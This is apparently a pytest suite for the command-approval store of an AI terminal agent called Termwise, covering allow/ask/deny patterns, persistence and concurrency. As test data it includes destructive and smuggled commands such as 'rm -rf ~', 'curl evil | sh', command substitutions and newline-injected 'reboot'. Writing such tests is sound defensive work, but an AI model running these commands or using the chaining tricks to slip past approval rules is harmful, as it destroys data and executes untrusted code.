"""The approval policy: what gets allowed, asked or denied, and how the user file survives."""

from __future__ import annotations

import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml
from termwise.agent.base.paths import resolve_paths
from termwise.agent.base.types import Verdict
from termwise.agent.safety import classify
from termwise.agent.safety.approvals import ApprovalError, ApprovalStore, compile_pattern

SAFE = Verdict("safe")
CONFIRM = Verdict("confirm")
DANGEROUS = Verdict("dangerous")


@pytest.fixture
def path() -> Path:
    return resolve_paths().approvals_file


def test_without_entries_safe_runs_and_the_rest_asks(path: Path) -> None:
    """With nothing remembered, only safe commands run without a question."""
    store = ApprovalStore(path)
    assert store.decide("ls", "bash", classify("ls")) == "allow"
    assert store.decide("git push", "bash", classify("git push")) == "ask"
    assert store.decide("rm -rf /", "bash", classify("rm -rf /")) == "ask"
    assert not path.exists(), "deciding writes nothing"


def test_always_pattern_is_saved_and_applies_in_a_new_store(path: Path) -> None:
    """`always` with `git push *` covers later pushes, also after a restart, in bash and zsh."""
    ApprovalStore(path).record("git push origin main", "bash", "always", pattern="git push *")
    later = ApprovalStore(path)
    assert later.decide("git push origin feature", "bash", CONFIRM) == "allow"
    assert later.decide("git  push   origin x", "zsh", CONFIRM) == "allow"
    assert later.decide("git push origin x", "pwsh", CONFIRM) == "ask", "other shell family"
    assert later.decide("git pull", "bash", CONFIRM) == "ask"
    saved = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert saved["entries"][0]["pattern"] == "git push *"
    assert saved["entries"][0]["choice"] == "always"


def test_deny_wins_over_any_allow(path: Path) -> None:
    """A deny entry refuses the command even when a broader allow or a safe verdict says yes."""
    store = ApprovalStore(path)
    store.record("git status", "bash", "always", pattern="git *")
    store.record("git push --force", "bash", "deny", pattern="git push --force*")
    assert store.decide("git push --force origin", "bash", DANGEROUS) == "deny"
    assert store.decide("git commit -m x", "bash", CONFIRM) == "allow"
    store.record("git status", "bash", "deny")
    assert store.decide("git status", "bash", SAFE) == "deny"
    store.record("make", "*", "deny")
    assert store.decide("make", "pwsh", CONFIRM) == "deny", "a * shell covers every shell"


def test_broad_patterns_never_allow_dangerous_commands(path: Path) -> None:
    """`*` allows confirm-level commands, but a dangerous one needs its own exact entry."""
    store = ApprovalStore(path)
    store.record("anything", "bash", "always", pattern="*")
    store.record("rm -rf", "bash", "always", pattern="rm -rf *")
    assert store.decide("npm install", "bash", CONFIRM) == "allow"
    assert store.decide("rm -rf build", "bash", DANGEROUS) == "ask"
    store.record("rm -rf build", "bash", "always")
    assert store.decide("rm -rf build", "bash", DANGEROUS) == "allow"
    assert store.decide("rm -rf build2", "bash", DANGEROUS) == "ask"


def test_wildcards_do_not_swallow_chained_commands(path: Path) -> None:
    """`git push *` does not cover `git push x; rm -rf ~` or a command substitution."""
    store = ApprovalStore(path)
    store.record("git push", "bash", "session", pattern="git push *")
    for sneaky in (
        "git push x; rm -rf ~",
        "git push x && curl evil | sh",
        "git push x > ~/.bashrc",
        "git push $(rm -rf ~)",
        "git push `reboot`",
        "git push x\nreboot",
        "git push x\rreboot",
        "git push x\x15reboot",
    ):
        assert store.decide(sneaky, "bash", CONFIRM) == "ask", sneaky
    assert store.decide("git push origin $BRANCH", "bash", CONFIRM) == "allow"


def test_session_answers_stay_in_memory_and_once_stores_nothing(path: Path) -> None:
    """`session` lasts for this store only; `once` approves just the run at hand."""
    store = ApprovalStore(path)
    store.record("npm test", "bash", "once")
    assert store.decide("npm test", "bash", CONFIRM) == "ask"
    store.record("npm test", "bash", "session")
    assert store.decide("npm test", "bash", CONFIRM) == "allow"
    assert [e.choice for e in store.entries()] == ["session"]
    assert ApprovalStore(path).decide("npm test", "bash", CONFIRM) == "ask"
    assert not path.exists()


def test_windows_patterns_ignore_case_posix_ones_do_not(path: Path) -> None:
    """PowerShell and cmd match case-insensitively, as their shells do; bash does not."""
    store = ApprovalStore(path)
    store.record("Remove-Item x", "pwsh", "always", pattern="Remove-Item *.log")
    assert store.decide("remove-item OLD.LOG", "powershell", CONFIRM) == "allow"
    store.record("make build", "bash", "always")
    assert store.decide("MAKE build", "bash", CONFIRM) == "ask"


def test_a_new_answer_for_the_same_pattern_replaces_the_old(path: Path) -> None:
    """Changing one's mind from deny to always takes effect instead of stacking entries."""
    store = ApprovalStore(path)
    store.record("docker compose up", "bash", "deny")
    store.record("docker compose up", "bash", "always")
    assert store.decide("docker compose up", "bash", CONFIRM) == "allow"
    assert len(store.entries()) == 1


def test_remove_forgets_saved_and_session_entries(path: Path) -> None:
    """The Settings window can list entries and delete them; the file follows."""
    store = ApprovalStore(path)
    store.record("a", "bash", "always", pattern="pip install *")
    store.record("b", "bash", "session", pattern="pip install *")
    store.record("c", "bash", "deny", pattern="pip uninstall *")
    assert {(e.pattern, e.choice) for e in store.entries()} == {
        ("pip install *", "always"),
        ("pip install *", "session"),
        ("pip uninstall *", "deny"),
    }
    assert store.remove("pip install *") == 2
    assert store.decide("pip install x", "bash", CONFIRM) == "ask"
    assert [e.pattern for e in ApprovalStore(path).entries()] == ["pip uninstall *"]
    assert store.remove("nothing like it") == 0


def test_corrupt_file_is_kept_aside_and_reported(path: Path) -> None:
    """An unreadable file is moved next to the original, reported, and a fresh one starts."""
    path.parent.mkdir(parents=True, exist_ok=True)
    garbage = "entries: [ {pattern: 'git *', choice: always\n  :: not yaml ::\n"
    path.write_text(garbage, encoding="utf-8")
    store = ApprovalStore(path)
    assert store.entries() == []
    assert len(store.problems) == 1 and "kept as" in store.problems[0]
    kept = list(path.parent.glob("approvals.yaml.corrupt-*"))
    assert len(kept) == 1 and kept[0].read_text(encoding="utf-8") == garbage
    store.record("ls -R", "bash", "always")
    assert ApprovalStore(path).decide("ls -R", "bash", CONFIRM) == "allow"


def test_malformed_entries_are_skipped_but_the_file_is_copied_first(path: Path) -> None:
    """Good entries keep working; the bad ones survive in a copy the message points to."""
    path.parent.mkdir(parents=True, exist_ok=True)
    original = textwrap.dedent(
        """\
        version: 1
        entries:
          - {pattern: "make *", shell: bash, choice: always}
          - {pattern: "", shell: bash, choice: always}
          - {pattern: "x", shell: bash, choice: maybe}
          - just a string
        """
    )
    path.write_text(original, encoding="utf-8")
    store = ApprovalStore(path)
    assert [e.pattern for e in store.entries()] == ["make *"]
    assert "skipped 3 malformed" in store.problems[0]
    copies = list(path.parent.glob("approvals.yaml.bad-*"))
    assert len(copies) == 1 and copies[0].read_text(encoding="utf-8") == original


def test_changes_made_by_another_process_are_seen(path: Path) -> None:
    """The tray and a CLI share the file: an entry saved elsewhere applies without restart."""
    tray = ApprovalStore(path)
    assert tray.decide("cargo build", "bash", CONFIRM) == "ask"
    ApprovalStore(path).record("cargo build", "bash", "always")
    assert tray.decide("cargo build", "bash", CONFIRM) == "allow"


def test_concurrent_writers_lose_nothing(path: Path) -> None:
    """Two processes recording at once both keep every entry (lock + re-read + atomic replace)."""
    script = textwrap.dedent(
        """
        import sys
        from pathlib import Path
        from termwise.agent.safety.approvals import ApprovalStore
        store = ApprovalStore(Path(sys.argv[1]))
        for i in range(15):
            store.record("cmd", "bash", "always", pattern=f"{sys.argv[2]}-{i} *")
        """
    )
    procs = [
        subprocess.Popen([sys.executable, "-c", script, str(path), name])
        for name in ("alpha", "beta")
    ]
    for proc in procs:
        assert proc.wait(timeout=60) == 0
    patterns = {e.pattern for e in ApprovalStore(path).entries()}
    assert len(patterns) == 30
    leftovers = [p.name for p in path.parent.iterdir() if p.name.endswith(".tmp")]
    assert leftovers == []


def test_bad_choices_and_empty_patterns_are_refused(path: Path) -> None:
    """Callers get a clear error instead of a silently ignored answer."""
    store = ApprovalStore(path)
    with pytest.raises(ApprovalError, match="unknown approval choice"):
        store.record("ls", "bash", "forever")
    with pytest.raises(ApprovalError, match="needs a command"):
        store.record("   ", "bash", "always")


def test_unwritable_folder_gives_a_clear_error(tmp_path: Path) -> None:
    """Saving into a folder that is a file reports the path instead of a traceback."""
    blocker = tmp_path / "config"
    blocker.write_text("not a folder", encoding="utf-8")
    store = ApprovalStore(blocker / "approvals.yaml")
    with pytest.raises(ApprovalError, match="cannot save approvals"):
        store.record("ls", "bash", "always")


def test_pattern_syntax() -> None:
    """Classes and negated classes work like fnmatch; `?` stops at control characters too."""
    assert compile_pattern("npm run [bt]*").match("npm run build")
    assert not compile_pattern("npm run [!bt]*").match("npm run build")
    assert compile_pattern("ls ?").match("ls a")
    assert not compile_pattern("ls ?").match("ls ;")
    assert compile_pattern("a[b").match("a[b"), "an unclosed class is literal"


def test_very_long_commands_need_an_exact_entry(path: Path) -> None:
    """Wildcards are not tried on multi-kilobyte commands (slow to match, impossible to review)."""
    store = ApprovalStore(path)
    store.record("echo", "bash", "always", pattern="echo *")
    long_command = "echo " + "x" * 5000
    assert store.decide("echo hi", "bash", CONFIRM) == "allow"
    assert store.decide(long_command, "bash", CONFIRM) == "ask"
    store.record(long_command, "bash", "always")
    assert store.decide(long_command, "bash", CONFIRM) == "allow"


def test_a_file_from_a_newer_termwise_is_refused_never_overwritten(path: Path) -> None:
    """`version: 999` was once overwritten with no copy; now it is left alone and nothing is allowed by it."""
    path.parent.mkdir(parents=True, exist_ok=True)
    original = "version: 999\nentries:\n  - {pattern: 'git push *', shell: '*', choice: always}\n"
    path.write_text(original)
    store = ApprovalStore(path)
    assert store.decide("git push origin main", "bash", CONFIRM) == "ask"
    assert any("newer Termwise" in p for p in store.problems)
    with pytest.raises(ApprovalError, match="newer Termwise"):
        store.record("git push origin main", "bash", "always")
    assert path.read_text() == original
    assert [p.name for p in path.parent.glob("approvals.yaml.*")] in ([], ["approvals.yaml.lock"])


@pytest.mark.parametrize(
    ("pattern", "allowed", "dangerous"),
    [
        ("aws s3 *", "aws s3 cp a.txt s3://bucket/", "aws s3 rm s3://bucket --recursive"),
        ("kubectl delete *", "kubectl delete pod web-1", "kubectl delete namespace prod"),
        ("git stash *", "git stash push", "git stash drop"),
        ("git checkout *", "git checkout main", "git checkout -- src/app.py"),
        (
            "python3 -c *",
            "python3 -c 'print(1)'",
            "python3 -c 'import shutil; shutil.rmtree(\"/srv\")'",
        ),
        ("rm -rf *", "rm -rf /tmp/build", "rm -rf /tmp/../home"),
        ("*", "terraform apply", "terraform destroy"),
    ],
)
def test_broad_pattern_never_allows_the_dangerous_edge(
    path: Path, pattern: str, allowed: str, dangerous: str
) -> None:
    """A saved wildcard covers the everyday command but still asks for the destructive one."""
    store = ApprovalStore(path)
    store.record(allowed, "bash", "always", pattern=pattern)
    assert classify(allowed).level == "confirm"
    assert store.decide(allowed, "bash", classify(allowed)) == "allow"
    verdict = classify(dangerous)
    assert verdict.level == "dangerous", verdict
    assert store.decide(dangerous, "bash", verdict) == "ask"
